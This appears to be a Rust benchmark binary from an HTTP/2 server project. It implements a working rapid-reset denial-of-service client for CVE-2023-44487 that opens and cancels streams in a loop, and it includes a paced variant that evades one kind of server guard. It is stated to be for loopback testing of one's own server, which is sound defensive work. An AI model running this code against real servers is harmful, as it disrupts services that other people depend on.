//! A rapid-reset client (CVE-2023-44487), for `benches/edge.sh`: it opens HTTP/2 streams on
//! prior-knowledge h2c and resets each at once, in a loop, reconnecting whenever the server
//! closes the connection, for a bounded time. With a pace it waits that long between a
//! stream's open and its reset, so that the server has started the stream's request (the
//! variant a guard against streams reset before they are accepted does not see).
//!
//! `rapid_reset ADDR AUTHORITY SECONDS [PACE_MS]`, e.g.
//! `rapid_reset 127.0.0.1:8443 bench.local 10`. Prints one line when done:
//! `connections N cut C resets R`.
//!
//! Only for loopback benchmarks of a server you run yourself.

// A benchmark or example may unwrap: a failure aborts the measurement, not a user's request.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::SocketAddr;
use std::time::Duration;

use tokio::net::TcpStream;
use tokio::time::Instant;

/// One connection: streams opened and reset until the server closes it or `until`.
/// Returns the streams reset and whether the server closed the connection.
async fn one_connection(
    addr: SocketAddr,
    authority: &str,
    until: Instant,
    pace: Option<Duration>,
) -> (u64, bool) {
    let Ok(tcp) = TcpStream::connect(addr).await else {
        return (0, false);
    };
    let Ok((mut client, conn)) = h2::client::handshake(tcp).await else {
        return (0, true);
    };
    let conn = tokio::spawn(conn);
    let uri = format!("http://{authority}/");
    let mut resets = 0;
    let closed = loop {
        if Instant::now() >= until {
            break false;
        }
        client = match tokio::time::timeout_at(until, client.clone().ready()).await {
            Ok(Ok(c)) => c,
            Ok(Err(_)) => break true,
            Err(_) => break false,
        };
        let request = http::Request::builder().uri(&uri).body(()).unwrap();
        let Ok((_, mut stream)) = client.send_request(request, true) else {
            break true;
        };
        match pace {
            Some(pace) => tokio::time::sleep(pace).await,
            None => tokio::task::yield_now().await,
        }
        stream.send_reset(h2::Reason::CANCEL);
        resets += 1;
    };
    drop(client);
    conn.abort();
    (resets, closed)
}

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.len() < 4 {
        eprintln!("usage: rapid_reset ADDR AUTHORITY SECONDS [PACE_MS]");
        std::process::exit(2);
    }
    let addr: SocketAddr = args[1].parse().expect("ADDR is host:port");
    let authority = &args[2];
    let seconds: u64 = args[3].parse().expect("SECONDS is a whole number");
    let pace = args
        .get(4)
        .map(|ms| Duration::from_millis(ms.parse().expect("PACE_MS is a whole number")));
    let until = Instant::now() + Duration::from_secs(seconds);
    let (mut connections, mut cut, mut resets) = (0u64, 0u64, 0u64);
    while Instant::now() < until {
        let (n, closed) = one_connection(addr, authority, until, pace).await;
        connections += 1;
        resets += n;
        cut += u64::from(closed);
        if n == 0 && !closed {
            // Refused outright (a connection cap): wait a little rather than spin.
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }
    println!("connections {connections} cut {cut} resets {resets}");
}
